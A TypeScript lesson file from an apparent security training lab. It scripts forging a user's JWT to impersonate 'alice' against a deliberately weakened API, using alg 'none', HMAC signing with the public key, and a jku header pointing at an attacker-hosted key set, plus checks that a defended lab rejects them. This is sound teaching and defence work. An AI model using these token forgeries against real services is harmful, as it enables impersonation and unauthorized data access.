import { codeIn } from '../../bike-shop.ts';
import { chain } from '../../checks/check.ts';
import type { LabHands } from '../../lab/lab.ts';
import type { BuiltInLesson } from '../../lesson.ts';
import { callLabApi, labApiShop } from '../lab-api-shop.ts';
import { logInAtShop, redeemAtShop } from '../lab-shop.ts';
import { contentOf, createForger, signedByForger, signedByPublicKey, type TokenContent, unsigned } from './forge.ts';

export { default as text } from './lesson.md';

/** The token of Mallory, changed so that it belongs to Alice and reads orders. */
function changed(hands: LabHands): TokenContent {
  const { header, claims } = contentOf(hands.kept('token of Mallory'));
  return { header, claims: { ...claims, sub: 'alice', scope: `${String(claims.scope)} orders:read` } };
}

/** Sends a forged token to the API, and shows its header beside the real one. */
async function send(hands: LabHands, token: string): Promise<void> {
  hands.see('Header before', JSON.stringify(contentOf(hands.kept('token of Mallory')).header));
  hands.see('Header after', JSON.stringify(contentOf(token).header));
  await callLabApi(hands, { by: 'mallory', path: 'orders', token });
}

export const lesson: BuiltInLesson = {
  issuer: labApiShop,
  lab: {
    weak: { api: ['alg', 'jku'] },
    desk: {},
    steps: [
      {
        id: 'login',
        by: 'mallory',
        async run(hands) {
          const { url } = await logInAtShop(hands.mallory, 'mallory');
          const { access_token = '' } = await redeemAtShop(hands.mallory, codeIn({ url }));
          hands.keep('token of Mallory', access_token);
          hands.see('Claims', JSON.stringify(contentOf(access_token).claims));
          await callLabApi(hands, { by: 'mallory', path: 'orders', token: access_token });
        },
      },
      { id: 'none', by: 'mallory', run: hands => send(hands, unsigned(changed(hands))) },
      {
        id: 'hmac',
        by: 'mallory',
        async run(hands) {
          const content = changed(hands);
          const { html: jwks } = await hands.mallory.open('/oauth2/jwks');
          const { keys }: { keys: readonly { kid: string }[] } = JSON.parse(jwks);
          const key = keys.find(({ kid }) => kid === content.header.kid);
          if (key !== undefined) await send(hands, signedByPublicKey(content, key));
        },
      },
      {
        id: 'jku',
        by: 'mallory',
        async run(hands) {
          const { privateKey, jwks } = createForger();
          const content = changed(hands);
          await hands.mallory.call('/labs/evil/jwks', { method: 'PUT', json: jwks });
          await send(hands, signedByForger(content, privateKey, `${hands.issuer}/labs/evil/jwks`));
        },
      },
    ],
  },
  tasks: [
    {
      id: 'attack',
      checks: [{ alg: 'none' }, { alg: { startsWith: 'HS' } }, { jku: { present: true } }].map(forged =>
        chain(
          { type: 'lab.switched', isDefended: false },
          { type: 'lab.token_let_through', isForged: true, sub: 'alice', ...forged },
        ),
      ),
    },
    {
      id: 'again',
      checks: (['api_token_unsigned', 'api_alg_refused', 'api_key_unknown'] as const).map(reason =>
        chain({ type: 'lab.switched', isDefended: true }, { type: 'error.returned', endpoint: 'api', reason }),
      ),
    },
    {
      id: 'goal',
      checks: [
        chain(
          {
            type: 'lab.token_let_through',
            isForged: true,
            sub: 'mallory', // the steps write alice
            scope: { includes: 'orders:read' },
            as: 'forged',
            next: 'send the API a token that you changed',
          },
          {
            type: 'request.completed',
            requestId: { $: 'forged.requestId' },
            path: { includes: '/orders' },
            status: 200,
          },
        ),
      ],
    },
  ],
};
